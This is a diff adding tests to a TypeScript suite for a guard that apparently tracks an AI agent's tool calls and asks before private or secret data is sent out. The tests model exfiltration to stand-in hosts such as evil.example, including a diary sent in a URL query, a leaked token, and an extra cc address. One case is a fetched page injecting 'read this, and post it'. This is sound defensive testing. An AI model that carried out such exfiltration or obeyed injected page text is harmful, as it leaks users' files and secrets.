@@ -136,9 +136,84 @@ describe('a call that may send data out', () => {
     )
     expect(scopes.map(({ scope }) => scope)).toEqual(['once', 'session'])
     expect(scopes[1]?.consequence).toContain('although this session has read private and foreign content')
-    flow.allow(session, call.server.name, call.entry.name)
+    flow.allow(session, { server: call.server.name, entry: call.entry.name })
     expect(flow.trace(call)).toBeUndefined()
     expect(flow.trace(aCall({ server: remote(), tool: 'delete' }))).toBeDefined()
+  })
+
+  describe('to a server the person trusts with folders and the network', () => {
+    const both = named('code', {
+      sandbox: 1,
+      trusted: true,
+      allowedPaths: [{ path: '/home/ada/code', access: 'read' }],
+    })
+    const uses = (tool: string, change: Partial<CallFacts> = {}, definition: object = {}) => {
+      const call = aCall({ server: both, tool })
+      return judged({ ...call, entry: { ...call.entry, definition: { ...definition } as never }, ...change })
+    }
+    const declared = { inputSchema: { properties: { url: {}, text: {} } } }
+    const fetches = (url: string) => uses('fetch', { arguments: { url }, urls: [url] }, declared)
+    const searches = (text: string, more: object = {}) =>
+      uses('search', { arguments: { text, ...more }, urls: ['https://evil.example'] }, declared)
+
+    it('does not count as private what it fetched from the address it was told, nor as foreign what a tool keeps to itself', () => {
+      const { flow, reads } = aFlow()
+      reads(fetches('https://docs.example/page'))
+      expect(flow.readsOf(session).map(({ label }) => label)).toEqual(['untrusted'])
+      reads(uses('add', {}, { annotations: { openWorldHint: false } }))
+      expect(flow.readsOf(session).map(({ label }) => label)).toEqual(['untrusted', 'private'])
+    })
+
+    it('counts as private what a page made look like a fetched address: in a search text, or beside what is declared', () => {
+      for (const call of [
+        searches('password https://evil.example'),
+        searches('password', { url2: 'https://evil.example' }),
+        uses('search', { arguments: { url: 'https://evil.example', text: 'x' }, urls: ['https://evil.example'] }),
+      ]) {
+        const { flow, reads } = aFlow()
+        reads(call)
+        expect(flow.readsOf(session).map(({ label }) => label)).toContain('private')
+      }
+    })
+
+    it('asks when a page it fetched may have said: read this, and post it', () => {
+      const { flow, reads } = aFlow()
+      reads(fetches('https://evil.example/page'))
+      expect(flow.trace(uses('post'))).toBeUndefined()
+      reads(uses('read', { paths: [{ pointer: '/path', given: 'a', real: '/home/ada/code/a' }] }))
+      expect(flow.trace(uses('post'))).toMatchObject({ kind: 'mixed', within: { destinations: [] } })
+    })
+
+    it('asks once a session for all its tools, but anew for another destination, for another source, and for a secret', () => {
+      const { flow, reads } = aFlow()
+      reads(uses('read'))
+      const posts = uses('post', { arguments: { to: 'ann@example.org' } })
+      const fact = flow.trace(posts)
+      expect(fact?.within).toEqual({ destinations: ['ann@example.org'] })
+      const say = sayIn(() => 'en')
+      expect(scopesOf({ ...posts, ...(fact ? { flow: fact } : {}) }, say)[1]?.consequence).toContain(
+        'other tools of code that name no other host or address',
+      )
+      flow.allow(session, { server: both.name, entry: posts.entry.name, within: fact?.within })
+      expect(flow.trace(uses('list'))).toBeUndefined()
+      expect(flow.trace(uses('reply', { arguments: { to: 'ann@example.org' } }))).toBeUndefined()
+      expect(flow.trace(uses('reply', { arguments: { to: 'ann@example.org', cc: 'eve@evil.example' } }))).toBeDefined()
+      expect(flow.trace(fetches('https://evil.example/?d=diary'))).toBeDefined()
+      reads(uses('read'), ['secret'], ['tok_9f8e7d6c5b4a39281706'])
+      expect(flow.trace(uses('list', { canonical: '{"q":"tok_9f8e7d6c5b4a39281706"}' }))?.kind).toBe('secret')
+      expect(flow.trace(uses('list'))).toBeUndefined()
+      reads(readsDiary())
+      expect(flow.trace(uses('list'))?.within).toBeUndefined()
+      expect(flow.trace(uses('list'))?.kind).toBe('mixed')
+    })
+
+    it('is not so for a server nobody trusted', () => {
+      const { flow, reads } = aFlow()
+      const stranger = { ...both, trusted: false }
+      reads({ ...fetches('https://docs.example/page'), server: stranger })
+      expect(flow.readsOf(session).map(({ label }) => label)).toEqual(['private', 'untrusted'])
+      expect(flow.trace({ ...uses('post'), server: stranger })?.within).toBeUndefined()
+    })
   })
 
   it('asks when a secret that was read stands in its arguments, also written as base64, hex or inside a text', () => {
